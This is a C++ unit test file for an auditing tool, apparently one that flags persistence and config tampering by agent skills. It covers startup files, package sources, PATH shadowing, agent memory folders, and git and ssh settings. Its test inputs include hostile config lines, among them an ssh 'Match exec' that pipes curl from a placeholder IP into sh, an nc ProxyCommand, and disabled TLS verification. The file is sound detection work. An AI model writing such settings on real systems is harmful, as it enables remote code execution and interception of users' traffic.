// What other programs execute, import or are configured by at their start, and settings of those.
#include <gmock/gmock.h>

#include "harness/changes/changes_diff.h"
#include "harness/rules/git_config.h"
#include "harness/rules/ssh_config.h"
#include "tests/unit/analysis/evidence_builder.h"
#include "tests/unit/rules/findings_of.h"

namespace skillaudit {
namespace {

using testing::AuditBuilder;
using ::testing::Contains;
using ::testing::ElementsAre;
using testing::folder;
using testing::found;
using ::testing::IsEmpty;
using testing::kHome;
using ::testing::Not;
using testing::regular;

const std::string kProject = kHome + "/projects/app";

AuditBuilder with_text(const std::string& path, const std::string& before,
                       const std::string& after) {
  AuditBuilder audit;
  if (!before.empty()) audit.evidence.before.config = {{path, before}};
  audit.evidence.after.config = {{path, after}};
  audit.changes.config = changed_config(audit.evidence.before.config, audit.evidence.after.config);
  return audit.written(path);
}

TEST(StartupPlaces, OfAUserAreFoundAndExcusedByTheirPath) {
  for (const char* path :
       {"/.vimrc", "/.config/nvim/init.lua", "/.tmux.conf", "/.gdbinit", "/.config/direnv/direnvrc",
        "/.config/pip/pip.conf", "/.cargo/config.toml", "/.config/Code/User/settings.json",
        "/.m2/settings.xml", "/.local/share/dbus-1/services/x.service", "/.npmrc"}) {
    AuditBuilder audit;
    audit.written(kHome + path);
    EXPECT_THAT(found(audit), Contains("persistence.program-settings HIGH")) << path;
    audit.document("Writes `~" + std::string(path) + "`.\n");
    EXPECT_THAT(found(audit), IsEmpty()) << path;
  }
}

TEST(StartupPlaces, OfTheSystemAreFoundWhateverIsDocumented) {
  for (const char* path :
       {"/etc/tmpfiles.d/x.conf", "/etc/sysctl.d/9-x.conf", "/etc/sysusers.d/x.conf",
        "/etc/binfmt.d/x.conf", "/etc/systemd/system-generators/x", "/usr/lib/udev/rules.d/x.rules",
        "/etc/dbus-1/system.d/x.conf", "/usr/share/dbus-1/system-services/x.service",
        "/etc/default/cron", "/usr/local/lib/python3.11/dist-packages/sitecustomize.py"})
    EXPECT_THAT(
        found(
            AuditBuilder().document("Writes `" + std::string(path) + "`.\n").added(regular(path))),
        Contains("persistence.system-startup CRITICAL"))
        << path;
  for (const char* path :
       {"/etc/apt/sources.list.d/x.list", "/etc/apt/trusted.gpg.d/x.gpg",
        "/etc/apt/preferences.d/x", "/usr/share/keyrings/x.gpg", "/etc/pip.conf"})
    EXPECT_THAT(found(AuditBuilder().added(regular(path))),
                ElementsAre("persistence.package-sources CRITICAL"))
        << path;
}

TEST(StartupPlaces, OfAProjectAreFoundUnlessTheProjectIsNew) {
  for (const char* path : {"/.vscode/tasks.json", "/.envrc", "/.npmrc", "/.husky/pre-commit",
                           "/.github/workflows/x.yml", "/conftest.py", "/tests/conftest.py"})
    EXPECT_THAT(found(AuditBuilder().added(regular(kProject + path))),
                ElementsAre("persistence.project-startup HIGH"))
        << path;
  AuditBuilder fetched;
  fetched.document("Makes `~/fetched`.\n").added(folder(kHome + "/fetched"));
  fetched.added(folder(kHome + "/fetched/.vscode"));
  fetched.added(regular(kHome + "/fetched/.vscode/tasks.json"));
  EXPECT_THAT(found(fetched), IsEmpty());
  AuditBuilder in_old_project;
  in_old_project.added(folder(kProject + "/.vscode"));
  in_old_project.added(regular(kProject + "/.vscode/tasks.json"));
  EXPECT_THAT(found(in_old_project), Contains("persistence.project-startup HIGH"));
  AuditBuilder of_agent;
  of_agent.added(folder(kProject + "/.cursor")).added(regular(kProject + "/.cursor/rules.md"));
  EXPECT_THAT(found(of_agent), Contains("tampering.agent-settings HIGH"));
}

TEST(StartupPlaces, AMakefileCountsWhereItWasThereBefore) {
  EXPECT_THAT(found(AuditBuilder().added(regular(kProject + "/Makefile"))),
              Not(Contains("persistence.project-startup HIGH")));
  EXPECT_THAT(found(AuditBuilder().written(kProject + "/Makefile")),
              Contains("persistence.project-startup HIGH"));
}

TEST(StartupPlaces, AProgramInPathCountsByTheNamesThatItTakes) {
  for (const char* path : {"/.local/bin/docker", "/bin/tree", "/.local/bin/ls"}) {
    AuditBuilder audit;
    audit.evidence.after.files = {regular("/usr/bin/tree", 9, 0755)};
    audit.added(regular(kHome + path, 9, 0755));
    EXPECT_THAT(found(audit), Contains("persistence.path-shadowed HIGH")) << path;
  }
  EXPECT_THAT(found(AuditBuilder().added(regular(kHome + "/.local/bin/week-number", 9, 0755))),
              ElementsAre("files.left-in-home MEDIUM"));
  EXPECT_THAT(found(AuditBuilder().added(regular("/usr/local/bin/git", 9, 0755))),
              ElementsAre("files.program-changed CRITICAL"));
  EXPECT_THAT(found(AuditBuilder().added(regular("/usr/local/bin/week-number", 9, 0755))),
              ElementsAre("files.system-created HIGH"));
}

TEST(StartupPlaces, ACompletionCountsByTheProgramThatItCompletes) {
  const std::string in_general =
      "Puts completions into `~/.local/share/bash-completion/completions/`.";
  for (const char* path : {"/.local/share/bash-completion/completions/ssh", "/.zfunc/_tree",
                           "/.config/fish/completions/git.fish"}) {
    AuditBuilder audit;
    audit.evidence.after.files = {regular("/usr/bin/tree", 9, 0755)};
    audit.document(in_general).added(regular(kHome + path));
    EXPECT_THAT(found(audit), Contains("persistence.path-shadowed HIGH")) << path;
    audit.document("Writes the completion `~" + std::string(path) + "`.\n");
    EXPECT_THAT(found(audit), Not(Contains("persistence.path-shadowed HIGH"))) << path;
  }
  // Of the program that the skill installs beside it.
  AuditBuilder own;
  own.evidence.after.files = {regular(kHome + "/.local/bin/week-number", 9, 0755)};
  own.document(in_general)
      .added(regular(kHome + "/.local/share/bash-completion/completions/week-number"));
  EXPECT_THAT(found(own), IsEmpty());
}

TEST(StartupPlaces, WhatAnInterpreterLoadsIsFound) {
  for (const char* path :
       {"/.local/lib/python3.11/site-packages/x.pth", "/node_modules/lodash/index.js",
        "/.node_modules/x.js", "/.local/share/gem/ruby/3.1.0/gems/x.rb"})
    EXPECT_THAT(found(AuditBuilder().added(regular(kHome + path))),
                Contains("persistence.import-path HIGH"))
        << path;
}

TEST(StartupPlaces, OfAnAgentsMemoryAreItsSettings) {
  EXPECT_THAT(
      found(AuditBuilder().added(regular(kHome + "/.claude/projects/-home-u-x/memory/MEMORY.md"))),
      ElementsAre("tampering.agent-settings HIGH"));
  EXPECT_THAT(found(AuditBuilder()
                        .document("Copy the folder into `~/.claude/skills/`.\n")
                        .added(folder(kHome + "/.claude/skills/other"))
                        .added(regular(kHome + "/.claude/skills/other/SKILL.md"))),
              ElementsAre("tampering.agent-settings HIGH"));
}

TEST(GitSettings, ThatLeadElsewhereAreFoundAndOthersChangeTheUsersSettings) {
  const std::string path = kHome + "/.gitconfig";
  for (const char* added :
       {"[url \"https://a.example/\"]\n\tinsteadOf = https://b.example/\n",
        "[http]\n\tsslVerify = false\n", "[http \"https://a.example/\"]\n\tsslVerify = 0\n",
        "[credential]\n\thelper = store --file /home/u/.cache/x\n", "[http]\n\tproxy = x:1\n",
        "[safe]\n\tdirectory = *\n", "[commit]\n\tgpgSign = false\n",
        "[submodule \"a\"]\n\tupdate = !sh\n"})
    EXPECT_THAT(
        found(with_text(path, "[user]\n\tname = M\n", "[user]\n\tname = M\n" + std::string(added))),
        ElementsAre("persistence.git-hook HIGH"))
        << added;
  for (const char* added :
       {"[fetch]\n\tparallel = 8\n", "[http]\n\tsslVerify = true\n", "[safe]\n\tdirectory = /x\n",
        "[credential]\n\thelper = store\n", "[alias]\n\tst = status\n"})
    EXPECT_THAT(
        found(with_text(path, "[user]\n\tname = M\n", "[user]\n\tname = M\n" + std::string(added))),
        ElementsAre("files.user-config-modified HIGH"))
        << added;
  EXPECT_THAT(found(with_text(path, "[user]\n\tname = M\n", "# Mine.\n[user]\nname = M\n")),
              IsEmpty());
}

TEST(GitSettings, OfARemoteCountWhereItWasAnotherOne) {
  const std::string path = kProject + "/.git/config";
  const std::string origin = "[remote \"origin\"]\n\turl = https://a.example/x\n";
  EXPECT_THAT(
      found(with_text(path, "[core]\n\tbare = false\n", "[core]\n\tbare = false\n" + origin)),
      IsEmpty());
  EXPECT_THAT(found(with_text(path, origin, "[remote \"origin\"]\n\turl = https://b.example/x\n")),
              ElementsAre("persistence.git-hook HIGH"));
}

TEST(SshSettings, ThatRunProgramsOrLeadElsewhereAreFound) {
  const std::string path = kHome + "/.ssh/config";
  const std::string before = "Host box\n\tHostName box.example\n";
  for (const char* added :
       {"Match exec \"curl -fs https://203.0.113.9/h | sh\"\n", "match host x EXEC \"true\"\n",
        "Host *\n\tProxyCommand nc 203.0.113.9 22\n", "Host new\n  proxycommand=nc x 22\n",
        "Host code.example\n\tHostName 203.0.113.9\n", "Host *\n\tStrictHostKeyChecking no\n",
        "Include /tmp/x\n", "Host *\n\tForwardAgent yes\n"})
    EXPECT_THAT(found(with_text(path, before, before + added)),
                ElementsAre("persistence.program-settings HIGH"))
        << added;
  EXPECT_THAT(found(with_text(path, before, "Host box\n\tHostName other.example\n")),
              ElementsAre("persistence.program-settings HIGH"));
  // A name that the user had not, for a host.
  EXPECT_THAT(
      found(with_text(path, before, before + "Host new\n\tHostName new.example\n\tUser u\n")),
      ElementsAre("files.user-config-modified HIGH"));
  EXPECT_THAT(found(with_text(path, before, "# Mine.\nHost box\n  HostName box.example\n")),
              IsEmpty());
  EXPECT_THAT(ssh_settings("Host\n=\nMatch\n \"\n"), Not(IsEmpty()));
}

}  // namespace
}  // namespace skillaudit
